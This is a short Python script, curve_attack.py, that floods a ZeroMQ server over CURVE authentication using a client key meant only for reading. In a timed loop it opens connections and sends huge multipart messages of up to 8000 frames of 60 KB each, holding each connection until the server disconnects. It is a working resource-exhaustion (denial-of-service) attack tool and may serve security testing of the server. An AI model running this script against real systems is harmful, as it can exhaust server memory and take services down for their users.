"""One message of many frames, over CURVE, by a key that may only read: python3 curve_attack.py ENDPOINT KEYFILE SERVERKEY SECONDS."""
import sys
import time
import zmq

endpoint, key_file, server, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
keys = dict(line.split(" ", 1) for line in open(key_file).read().splitlines())
context = zmq.Context()
end = time.monotonic() + seconds
frames = 0
while time.monotonic() < end:
    peer = context.socket(zmq.DEALER)
    peer.linger = 0
    peer.sndtimeo = 500
    peer.curve_publickey = keys["public-key"].encode()
    peer.curve_secretkey = keys["secret-key"].encode()
    peer.curve_serverkey = server.encode()
    ended = peer.get_monitor_socket(zmq.EVENT_DISCONNECTED)
    peer.connect(endpoint)
    try:
        for _ in range(8000):
            peer.send(b"x" * 60_000, zmq.SNDMORE)
            frames += 1
            if time.monotonic() > end:
                break
        peer.send(b"")
    except zmq.Again:
        pass
    # Nothing of it goes out before it is whole. The connection stays until the other side has had enough.
    ended.poll(20_000)
    peer.disable_monitor()
    peer.close()
print(f"{frames} frames")
